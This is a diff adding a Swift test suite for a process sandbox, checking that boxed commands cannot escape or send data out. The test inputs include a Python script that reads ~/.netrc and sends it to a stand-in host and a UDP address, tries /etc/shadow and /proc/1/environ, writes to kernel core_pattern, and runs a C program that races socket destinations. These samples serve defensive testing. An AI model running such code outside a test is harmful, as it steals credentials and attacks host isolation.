@@ -1,0 +1,413 @@
+import Evidence
+import Glibc
+import TestSupport
+import Testing
+
+@testable import Sandbox
+@testable import box_probe
+
+/// Boxes under other users and restrictions, in a process of their own.
+@Suite("Box on other machines", .serialized)
+struct BoxMachineTests {
+  private static let stealer = """
+    import os, socket, urllib.request
+    data = open(os.path.expanduser("~/.netrc"), "rb").read()
+    print(urllib.request.urlopen("http://drop.example.org/", data=data, timeout=5).read())
+    def tries(name, action):
+      try: print(name, action())
+      except OSError as error: print(name, error.errno)
+    def datagram(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    tries("away", lambda: datagram().sendto(data, ("203.0.113.9", 31337)))
+    tries("resolver", lambda: datagram().sendto(data, ("127.0.0.53", 53)))
+    tries("message", lambda: datagram().sendmsg([data], [], 0, ("127.0.0.53", 53)))
+    tries("listen", lambda: socket.socket().bind(("127.0.0.1", 0)))
+    tries("vsock", lambda: socket.socket(40, 1))
+    tries("passwords", lambda: open("/etc/shadow").read())
+    tries("first", lambda: open("/proc/1/environ").read())
+    """
+  private static let run = ["--decoy", "/home/dev/.netrc=worthless", "--", Machine.python, "-c", stealer]
+
+  @Test(
+    "runs as an unprivileged user, and as one that no passwd file knows", .enabled(if: Machine.isRoot, Machine.noRoot),
+    .enabled(if: Machine.hasSetpriv, "needs setpriv"), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
+    arguments: ["65534", "54321"])
+  func unprivileged(user: String) throws {
+    let wrapper = ["/usr/bin/setpriv", "--reuid", user, "--regid", user, "--clear-groups"]
+    let summary = try Probe.run(behind: wrapper, ["--", "/usr/bin/id", "-u"])
+    #expect(summary.tier == .namespaces)
+    #expect(summary.output == "1000\n")
+  }
+
+  @Test(
+    "runs inside another user namespace", .enabled(if: Machine.isRoot, Machine.noRoot),
+    .enabled(if: Machine.hasSetpriv && Machine.hasUnshare, "needs setpriv and unshare"),
+    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
+  func nested() throws {
+    let summary = try Probe.run(behind: Probe.asNobody + ["/usr/bin/unshare", "-Ur"], ["--", "/usr/bin/id", "-u"])
+    #expect(summary.tier == .namespaces)
+    #expect(summary.output == "1000\n")
+  }
+
+  @Test(
+    "names the setting where user namespaces are used up", .enabled(if: Machine.isRoot, Machine.noRoot),
+    .enabled(if: Machine.hasSetpriv && Machine.hasUnshare, "needs setpriv and unshare"),
+    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
+  func usedUp() throws {
+    let script = "echo 0 > /proc/sys/user/max_user_namespaces; exec \"$@\""
+    let summary = try Probe.run(
+      behind: Probe.asNobody + ["/usr/bin/unshare", "-Ur", "/bin/sh", "-c", script, "sh"], ["--", "/usr/bin/true"])
+    #expect(summary.step == "user-namespace")
+    #expect(summary.number == ENOSPC)
+    #expect(summary.error?.contains("sysctl -w user.max_user_namespaces") == true)
+  }
+
+  @Test(
+    "shows the outer processes and says so where parts of /proc are covered",
+    .enabled(if: Machine.isRoot, Machine.noRoot),
+    .enabled(if: Machine.hasUnshare, "needs unshare"), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
+  func coveredProc() throws {
+    let script = "mount -t tmpfs none /proc/bus && exec \"$@\""
+    let summary = try Probe.run(
+      behind: ["/usr/bin/unshare", "-m", "/bin/sh", "-c", script, "sh"],
+      ["--", "/bin/sh", "-c", "cat /proc/1/environ; echo x > /proc/sys/kernel/core_pattern; id -u"])
+    #expect(summary.tier == .namespaces)
+    #expect(summary.warnings.contains { $0.hasPrefix("fresh-proc") })
+    #expect(summary.output == "1000\n")
+    #expect(summary.errors.contains("/proc/1/environ: Permission denied"))
+  }
+
+  @Test(
+    "uses the weaker tier in a container's default profile where that is accepted, and nothing leaves",
+    .enabled(if: Machine.hasPython, Machine.noPython),
+    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"),
+    arguments: [false, true])
+  func container(isNobody: Bool) throws {
+    let directory = TemporaryDirectory()
+    if isNobody, !Machine.isRoot || !Machine.hasSetpriv { return }
+    let wrapper = (isNobody ? Probe.asNobody : []) + Probe.restricted("docker", directory)
+    let summary = try Probe.run(behind: wrapper, ["--weak"] + Self.run)
+    #expect(summary.tier == .confinement)
+    #expect(summary.refusal?.contains("security-opt") == true)
+    #expect(
+      summary.output.split(separator: "\n") == [
+        "b'ok'", "away \(ENETUNREACH)", "resolver \(ENETUNREACH)", "message \(EDESTADDRREQ)", "listen \(EACCES)",
+        "vsock \(EAFNOSUPPORT)", "passwords \(EACCES)", "first \(EACCES)",
+      ])
+    #expect(summary.exchanges.contains { $0.standingFor == "198.18.0.1" && $0.payload.hasSuffix("worthless") })
+    #expect(summary.evidence.contains { $0.level == .touched })
+    #expect(summary.evidence.contains { $0.level == .taintedEgress })
+  }
+
+  @Test(
+    "is never weaker than the plan accepts", .enabled(if: Machine.hasPython, Machine.noPython),
+    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
+  func noSilentDowngrade() throws {
+    let directory = TemporaryDirectory()
+    let summary = try Probe.run(behind: Probe.restricted("docker", directory), ["--", "/usr/bin/true"])
+    #expect(summary.tier == nil)
+    #expect(summary.number == EPERM)
+    #expect(summary.error?.contains("accept tier B") == true)
+  }
+
+  @Test(
+    "says that it is watched already", .enabled(if: Machine.hasPython, Machine.noPython),
+    .enabled(if: Machine.isIntel, "the restriction's numbers are x86-64's"),
+    .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
+  func watchedAlready() throws {
+    let directory = TemporaryDirectory()
+    let summary = try Probe.run(behind: Probe.restricted("listener", directory), ["--weak", "--", "/usr/bin/true"])
+    #expect(summary.step == "listener")
+    #expect(summary.number == EBUSY)
+    #expect(summary.error?.contains("watched already") == true)
+  }
+
+  @Test(
+    "ends what a command left behind, without namespaces too", .enabled(if: Machine.hasPython, Machine.noPython),
+    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
+  func leftBehind() throws {
+    let directory = TemporaryDirectory()
+    let marker = "/tmp/left-\(getpid())"
+    let summary = try Probe.run(
+      behind: Probe.restricted("docker", directory),
+      [
+        "--weak", "--wall", "20000", "--", "/bin/sh", "-c",
+        "(mkfifo ~/f; cat ~/f; : \(marker)) & (setsid cat ~/f; : \(marker)) &",
+      ])
+    #expect(summary.exit == "exited(0)")
+    #expect(Processes.running(with: marker).isEmpty)
+  }
+
+  @Test("keeps the supervisor small in a flood of 100,000 opens", .enabled(if: Machine.hasPython, Machine.noPython))
+  func flood() throws {
+    let script = """
+      import os
+      for i in range(100000):
+        try: os.open("/nonexistent/%d" % i, os.O_RDONLY)
+        except OSError: pass
+      """
+    let summary = try Probe.run(["--weak", "--", Machine.python, "-c", script])
+    #expect(summary.exit == "exited(0)")
+    #expect(summary.notifications > 100_000)
+    #expect(summary.unrecorded > 70_000)
+    #expect(summary.peakMemory < 200 << 10)
+  }
+
+  @Test(
+    "needs no user namespace where root has the others, and is not root then",
+    .enabled(if: Machine.isRoot, Machine.noRoot),
+    .enabled(if: Machine.hasPython, Machine.noPython), .enabled(if: Machine.hasNamespaces, Machine.noNamespaces),
+    .enabled(if: Machine.isIntel, "the restriction's numbers are x86-64's"))
+  func withoutUserNamespace() throws {
+    let directory = TemporaryDirectory()
+    let script =
+      "id -u; cat ~/.netrc; echo x > ~/new; mkdir -p ~/a/b /tmp/c; for f in core_pattern modprobe; do "
+      + "(: > /proc/sys/kernel/$f) 2>/dev/null && echo wrote; done; cat /proc/1/environ; grep CapEff /proc/self/status"
+    let summary = try Probe.run(
+      behind: Probe.restricted("no-user-namespaces", directory),
+      ["--decoy", "/home/dev/.netrc=worthless", "--", "/bin/sh", "-c", script])
+    #expect(summary.tier == .namespaces)
+    #expect(summary.output.hasPrefix("\(Identity.current.forBox.user & 0xFF00_0000 == 0x7000_0000 ? "18" : "")"))
+    #expect(summary.output.hasSuffix("worthlessCapEff:\t0000000000000000\n"))
+    #expect(summary.errors == "cat: /proc/1/environ: Permission denied\n")
+    #expect(summary.evidence.map(\.level) == [.touched])
+  }
+
+  @Test(
+    "brings nothing to a real server in 20,000 raced calls, though there is no network of its own",
+    .enabled(if: Machine.hasPython, Machine.noPython), .enabled(if: Machine.compiler != nil, "needs a C compiler"),
+    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
+  func racedConnections() throws {
+    let directory = TemporaryDirectory()
+    let wrapper = Probe.restricted("docker", directory)
+    try Compiler.build(Self.raceSource, at: directory.path + "/race", in: directory)
+    let server = try RealServer()
+    let summary = try Probe.run(
+      behind: wrapper, ["--weak", "--mount", directory.path, "--", directory.path + "/race", "\(server.port)", "10000"])
+    #expect(summary.tier == .confinement)
+    #expect(summary.errors == "")
+    #expect(summary.exit == "exited(0)")
+    #expect(summary.notifications > 20_000)
+    #expect(!server.wasReached)
+  }
+
+  /// Connects and sends while another thread turns the destination between one outside and the real server, and the
+  /// descriptor between two sockets.
+  private static let raceSource = """
+    #include <arpa/inet.h>
+    #include <pthread.h>
+    #include <stdlib.h>
+    #include <string.h>
+    #include <sys/socket.h>
+    #include <unistd.h>
+    static struct sockaddr_in to;
+    static volatile int over;
+    static uint32_t home, away;
+    static void *flip(void *unused) {
+      while (!over) {
+        __atomic_store_n(&to.sin_addr.s_addr, away, __ATOMIC_SEQ_CST);
+        for (volatile int i = 0; i < 300; i++) {}
+        __atomic_store_n(&to.sin_addr.s_addr, home, __ATOMIC_SEQ_CST);
+        for (volatile int i = 0; i < 300; i++) {}
+      }
+      return unused;
+    }
+    int main(int count, char **arguments) {
+      if (count < 3) return 2;
+      long rounds = atol(arguments[2]);
+      to.sin_family = AF_INET;
+      to.sin_port = htons((unsigned short)atoi(arguments[1]));
+      home = htonl(INADDR_LOOPBACK);
+      away = inet_addr("203.0.113.77");
+      pthread_t thread;
+      pthread_create(&thread, NULL, flip, NULL);
+      for (long i = 0; i < rounds; i++) {
+        int one = socket(AF_INET, SOCK_DGRAM, 0);
+        struct iovec piece = {"leak", 4};
+        struct msghdr message = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &piece, .msg_iovlen = 1};
+        sendmsg(one, &message, 0);
+        sendto(one, "leak", 4, 0, (struct sockaddr *)&to, sizeof to);
+        if (i % 10 == 0) {
+          int two = socket(AF_INET, SOCK_STREAM, 0);
+          connect(two, (struct sockaddr *)&to, sizeof to);
+          send(two, "leak", 4, MSG_NOSIGNAL);
+          close(two);
+        }
+        close(one);
+      }
+      over = 1;
+      pthread_join(thread, NULL);
+      return 0;
+    }
+    """
+
+  @Test(
+    "goes with its supervisor, without namespaces too", .enabled(if: Machine.hasPython, Machine.noPython),
+    .enabled(if: Machine.isIntel, "the profile's numbers are x86-64's"))
+  func killedBare() throws {
+    let directory = TemporaryDirectory()
+    let marker = "/tmp/killed-bare-\(getpid())"
+    let command = Probe.restricted("docker", directory) + [Subprocess.productsDirectory + "/box-probe"]
+    let probe = try Processes.start(
+      command[0],
+      command.dropFirst() + [
+        "--weak", "--", "/bin/sh", "-c",
+        "(setsid sh -c 'mkfifo ~/f; cat ~/f; : \(marker)') & mkfifo ~/g; cat ~/g; : \(marker)",
+      ])
+    let family = Processes.wait(upTo: 20) {
+      Processes.running(with: marker).count >= 3 ? Processes.descendants(of: probe) : nil
+    }
+    #expect((family?.count ?? 0) >= 3)
+    kill(probe, SIGKILL)
+    waitpid(probe, nil, 0)
+    let isGone = Processes.wait(upTo: 10) { (family ?? []).allSatisfy { !Processes.isAlive($0) } ? true : nil }
+    #expect(isGone == true)
+    Leftovers.sweep()
+    #expect(Directory.names("/tmp", limit: 100_000).allSatisfy { !$0.hasPrefix("pratique-box-\(probe)-") })
+  }
+
+  @Test("goes with its supervisor, whatever ends that", arguments: [SIGKILL, SIGTERM])
+  func killed(signal: Int32) throws {
+    let marker = "/tmp/killed-\(getpid())-\(signal)"
+    let probe = try Processes.start(
+      Subprocess.productsDirectory + "/box-probe",
+      [
+        "--weak", "--", "/bin/sh", "-c",
+        "(setsid sh -c 'mkfifo ~/f; cat ~/f; : \(marker)') & mkfifo ~/g; cat ~/g; : \(marker)",
+      ])
+    // The probe itself has the marker among its arguments.
+    let family = Processes.wait(upTo: 20) {
+      Processes.running(with: marker).count >= 3 ? Processes.descendants(of: probe) : nil
+    }
+    #expect((family?.count ?? 0) >= 3)
+    kill(probe, signal)
+    waitpid(probe, nil, 0)
+    let isGone = Processes.wait(upTo: 10) { Processes.running(with: marker).isEmpty ? true : nil }
+    #expect(isGone == true)
+    let launchers = Processes.wait(upTo: 10) { (family ?? []).allSatisfy { !Processes.isAlive($0) } ? true : nil }
+    #expect(launchers == true)
+  }
+
+  @Test("leaves no file, mount or control group behind, and sweeps what killed runs left")
+  func leftovers() throws {
+    let mounts = FileStatus.text("/proc/self/mountinfo", limit: 1 << 20)
+    let stale = "/tmp/pratique-box-4194303-1-1"
+    mkdir(stale, 0o700)
+    mkdir(stale + "/inner", 0o700)
+    close(open(stale + "/inner/file", O_WRONLY | O_CREAT, 0o600))
+    var plan = TestBox.shell("true").plan
+    plan.weakestTier = .confinement
+    _ = try Box.run(plan, network: ProbeNetwork())
+    #expect(access(stale, F_OK) != 0)
+    #expect(FileStatus.text("/proc/self/mountinfo", limit: 1 << 20) == mounts)
+    for parent in ["/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory"] {
+      #expect(Directory.names(parent, limit: 10_000).allSatisfy { !Leftovers.isStale($0) })
+    }
+    #expect(!Leftovers.isStale(Leftovers.name()))
+    #expect(Leftovers.isStale("pratique-box-\(getpid())-1-1"))
+    #expect(!Leftovers.isStale("pratique-box-x"))
+  }
+
+  @Test("examines the machine, and has a remedy for each refusal")
+  func doctor() {
+    let doctor = SandboxDoctor.examine()
+    #expect(doctor.checks.allSatisfy { $0.isAllowed || $0.remedy != nil })
+    #expect(doctor.tier != nil || doctor.checks.contains { !$0.isAllowed })
+    #expect(doctor.checks.map(\.name).contains("namespaces"))
+  }
+}
+
+/// A server of this machine, on the same port for streams and datagrams, that nothing boxed may reach.
+private final class RealServer {
+  let port: UInt16
+  private let stream: Descriptor
+  private let datagrams: Descriptor
+
+  init() throws {
+    let made = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+    stream = Descriptor(made)
+    datagrams = Descriptor(socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0))
+    var name = sockaddr_in()
+    var size = socklen_t(MemoryLayout<sockaddr_in>.size)
+    guard Loopback.with(port: 0, { bind(made, $0, $1) }) == 0, listen(made, 16) == 0 else {
+      throw CannotRun(reason: "no server")
+    }
+    _ = withUnsafeMutablePointer(to: &name) {
+      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(made, $0, &size) }
+    }
+    port = UInt16(bigEndian: name.sin_port)
+    let other = datagrams.number
+    guard Loopback.with(port: port, { bind(other, $0, $1) }) == 0 else { throw CannotRun(reason: "no server") }
+  }
+
+  /// Whether anything came in.
+  var wasReached: Bool {
+    var both = [stream, datagrams].map { pollfd(fd: $0.number, events: Int16(POLLIN), revents: 0) }
+    return poll(&both, 2, 0) != 0
+  }
+}
+
+/// Processes of the machine, by what they were started with.
+enum Processes {
+  static func start(_ program: String, _ arguments: [String]) throws -> pid_t {
+    var actions = posix_spawn_file_actions_t()
+    posix_spawn_file_actions_init(&actions)
+    defer { posix_spawn_file_actions_destroy(&actions) }
+    posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0)
+    // Swift's own threads keep signals away, and that would be inherited.
+    var attributes = posix_spawnattr_t()
+    posix_spawnattr_init(&attributes)
+    defer { posix_spawnattr_destroy(&attributes) }
+    var none = sigset_t()
+    sigemptyset(&none)
+    posix_spawnattr_setsigmask(&attributes, &none)
+    posix_spawnattr_setflags(&attributes, Int16(POSIX_SPAWN_SETSIGMASK))
+    var argv = ([program] + arguments).map { strdup($0) } + [nil]
+    defer { for pointer in argv { free(pointer) } }
+    var environment: [UnsafeMutablePointer<CChar>?] = [nil]
+    var process: pid_t = 0
+    let status = posix_spawn(&process, program, &actions, &attributes, &argv, &environment)
+    guard status == 0 else { throw CannotRun(reason: String(cString: strerror(status))) }
+    return process
+  }
+
+  /// Those, without us, that have `marker` among their arguments.
+  static func running(with marker: String) -> [pid_t] {
+    all().filter { FileStatus.text("/proc/\($0)/cmdline")?.contains(marker) == true && $0 != getpid() }
+  }
+
+  static func descendants(of process: pid_t) -> [pid_t] {
+    var parents: [pid_t: pid_t] = [:]
+    for each in all() { parents[each] = parent(of: each) }
+    return parents.keys.filter { each in
+      var next = parents[each]
+      while let current = next, current > 1 {
+        if current == process { return true }
+        next = parents[current]
+      }
+      return false
+    }
+  }
+
+  static func isAlive(_ process: pid_t) -> Bool {
+    guard let stat = FileStatus.text("/proc/\(process)/stat"), let name = stat.lastIndex(of: ")") else { return false }
+    return stat[name...].split(separator: " ").dropFirst().first != "Z"
+  }
+
+  /// Asks again and again, for a kernel that ends processes in its own time.
+  static func wait<Answer>(upTo seconds: Int, _ ask: () -> Answer?) -> Answer? {
+    let deadline = Clock.microseconds + seconds * 1_000_000
+    while Clock.microseconds < deadline {
+      if let answer = ask() { return answer }
+      usleep(10_000)
+    }
+    return nil
+  }
+
+  private static func all() -> [pid_t] { Directory.names("/proc", limit: 100_000).compactMap { pid_t($0) } }
+
+  private static func parent(of process: pid_t) -> pid_t? {
+    guard let stat = FileStatus.text("/proc/\(process)/stat"), let name = stat.lastIndex(of: ")") else { return nil }
+    let fields = stat[name...].split(separator: " ")
+    return fields.count > 2 ? pid_t(fields[2]) : nil
+  }
+}
